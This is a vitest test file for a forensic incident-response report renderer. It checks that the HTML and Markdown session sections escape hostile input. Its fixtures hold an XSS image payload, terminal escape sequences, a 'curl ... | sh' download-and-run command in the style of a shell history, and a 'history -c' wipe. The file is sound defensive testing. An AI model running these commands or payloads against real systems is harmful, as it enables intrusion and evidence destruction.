import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadReportData } from '../../src/report/data.js';
import { renderHtml } from '../../src/report/html.js';
import { renderMarkdown } from '../../src/report/markdown.js';
import { durationText, sessionHeading, type ShownSession } from '../../src/report/sessions-view.js';
import { tmpDirsOfThisFile } from '../helpers/bundle.js';

const tmp = tmpDirsOfThisFile();

const IMG = '<img src=x onerror=alert(1)>';
const ESC = '\x1b]0;pwned\x07\x1b[2J';
const PIPE = 'a|b`c*d_e\nrow';
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

const list = <T>(items: T[], total = items.length) => ({ items, total });

function session(over: Partial<ShownSession> = {}): ShownSession {
  return {
    user: 'deploy', address: '127.0.0.3', line: 'pts/0', start: '2024-03-01T22:26:09.000Z', end: '2024-03-01T22:40:12.000Z', endKind: 'logout', method: 'password', sources: ['wtmp', 'auth-log'], evidence: ['/var/log/auth.log:497'],
    commands: list([]), files: list([]), findings: list([]),
    ...over,
  };
}

function caseWith(activity: unknown): string {
  const dir = tmp('irt-sessions-view-');
  mkdirSync(path.join(dir, 'artifacts'), { recursive: true });
  writeFileSync(path.join(dir, 'artifacts/session-activity.json'), typeof activity === 'string' ? activity : JSON.stringify(activity));
  writeFileSync(path.join(dir, 'findings.json'), JSON.stringify([{ id: 'F-0001', rule: 'activity.download-execute', severity: 'high', title: `Download and run: ${IMG}`, detail: 'd', mitre: [], subject: {}, evidence: [] }]));
  return dir;
}

const hostile = {
  version: 1,
  window: { start: '2024-03-01T20:00:00.000Z', end: '2024-03-02T00:00:00.000Z' },
  sessions: [
    { uid: 1001, ...session({
      user: ESC, address: IMG, line: `pts/${PIPE}`, method: IMG, evidence: [`/var/log/${IMG}:1`],
      commands: list([{ time: '2024-03-01T22:27:00.000Z', kind: 'command', text: `curl http://203.0.113.9/x.sh | sh ${IMG} ${ESC} ${PIPE}`, file: `/home/${IMG}/.bash_history`, line: 4, signals: ['download-run'] }], 130),
      files: list([{ path: `/dev/shm/.${IMG}/${PIPE}`, type: 'file', what: 'created', time: '2024-03-01T22:28:00.000Z', uid: 1001, size: 10, executable: 'elf', sha256: 'ab'.repeat(32) }]),
      findings: list([{ id: 'F-0001', rule: 'activity.download-execute', severity: 'high', title: `Download and run: ${IMG}`, tie: 'session' }]),
    }) },
    { uid: null, ...session({ user: 'alice', address: '198.51.100.7', start: '2024-03-01T21:00:00.000Z', end: null, endKind: 'still-logged-in', line: 'pts/1' }) },
  ],
  sessionsLeftOut: 2,
  untied: [{ user: `bob${ESC}`, reason: 'no-time', commands: list([{ time: null, kind: 'command', text: `history -c ${IMG}`, file: '/home/bob/.bash_history', line: 7, signals: ['history-wipe'] }]) }],
};

describe('the report section per session', () => {
  it('HTML: a card per session with its commands, files and findings; the empty session one line; every box string escaped', async () => {
    const data = await loadReportData(caseWith(hostile));
    expect(data.unreadable).toEqual([]);
    const html = renderHtml(data);
    const section = html.slice(html.indexOf('<section id="session-activity">'), html.indexOf('</section>', html.indexOf('<section id="session-activity">')));
    expect(section).toContain('<h2>What was done in each session</h2>');
    expect(section).not.toMatch(/<img/i);
    expect(section).not.toMatch(CONTROL);
    expect(section).toContain('\\x1b]0;pwned\\x07\\x1b[2J from &lt;img src=x onerror=alert(1)&gt;, 2024-03-01 22:26:09–22:40:12 UTC (14 min)');
    expect(section).toContain('<code>curl http://203.0.113.9/x.sh | sh &lt;img src=x onerror=alert(1)&gt;');
    expect(section).toContain('<code>/home/&lt;img src=x onerror=alert(1)&gt;/.bash_history:4</code>');
    expect(section).toContain('129 more entries left out (all of them are in artifacts/history-commands.jsonl)');
    expect(section).toContain('created (executable, elf)');
    expect(section).toContain('<a href="#F-0001">F-0001</a> Download and run: &lt;img');
    expect(section).toContain('<li>alice from 198.51.100.7, since 2024-03-01 21:00:00 UTC (still open)</li>');
    expect(section).toContain('2 older sessions in the window not shown.');
    expect(section).toContain('bob\\x1b]0;pwned\\x07\\x1b[2J: not tied to a session (no timestamps)');
    expect(section).toContain('history -c &lt;img');
  });

  it('Markdown: the same, escaped, with table rows kept whole', async () => {
    const md = renderMarkdown(await loadReportData(caseWith(hostile)));
    const part = md.slice(md.indexOf('## What was done in each session'), md.indexOf('## Top attacking addresses'));
    expect(part).not.toMatch(CONTROL);
    expect(part).not.toMatch(/(^|[^\\])</m);
    expect(part).toContain('### \\\\x1b\\]0;pwned\\\\x07\\\\x1b\\[2J from \\<img src=x onerror=alert(1)\\>, 2024-03-01 22:26:09–22:40:12 UTC (14 min)');
    expect(part).toContain('http&#58;//203.0.113.9/x.sh \\| sh');
    expect(part).toContain('- alice from 198.51.100.7, since 2024-03-01 21:00:00 UTC (still open)');
    expect(part).toContain('- high F-0001 Download and run: \\<img');
    const lines = part.split('\n');
    for (let i = 0; i < lines.length; i++) {
      if (!/^\|---/.test(lines[i + 1] ?? '')) continue;
      const cols = (l: string) => l.replace(/\\\|/g, '').split('|').length;
      for (let j = i + 2; j < lines.length && lines[j].startsWith('|'); j++) expect(cols(lines[j]), lines[j]).toBe(cols(lines[i]));
    }
  });

  it('a file of the wrong shape is named, not trusted; an absent one is said', async () => {
    const bad = await loadReportData(caseWith({ ...hostile, sessions: [{ ...hostile.sessions[0], commands: { items: 'x', total: -1 } }] }));
    expect(bad.sessionActivity).toBeNull();
    expect(bad.unreadable.join()).toContain('artifacts/session-activity.json');
    expect(renderHtml(bad)).toContain('Not in this bundle: no step read the logins or the shell histories');
    const notJson = await loadReportData(caseWith('{"version":1,'));
    expect(notJson.unreadable.join()).toContain('artifacts/session-activity.json');
    const none = await loadReportData(tmp('irt-sessions-none-'));
    expect(renderMarkdown(none)).toContain('Not in this bundle: no step read the logins or the shell histories.');
  });
});

describe('sessionHeading', () => {
  it('one day, several days, still open, ended by a reboot, a time that is not a time', () => {
    expect(sessionHeading(session())).toBe('deploy from 127.0.0.3, 2024-03-01 22:26:09–22:40:12 UTC (14 min)');
    expect(sessionHeading(session({ end: '2024-03-03T23:00:00.000Z' }))).toBe('deploy from 127.0.0.3, 2024-03-01 22:26:09 UTC – 2024-03-03 23:00:00 UTC (2 d 0 h)');
    expect(sessionHeading(session({ end: null, endKind: 'gone', address: null }))).toBe('deploy from an unknown address, since 2024-03-01 22:26:09 UTC (no end recorded)');
    expect(sessionHeading(session({ end: '2024-03-01T22:26:40.000Z', endKind: 'reboot' }))).toBe('deploy from 127.0.0.3, 2024-03-01 22:26:09–22:26:40 UTC (31 s), ended by reboot');
    expect(sessionHeading(session({ start: 'yesterday', end: 'today' }))).toBe('deploy from 127.0.0.3, yesterday – today');
    expect(durationText(3 * 3600_000 + 5 * 60_000)).toBe('3 h 05 min');
  });
});
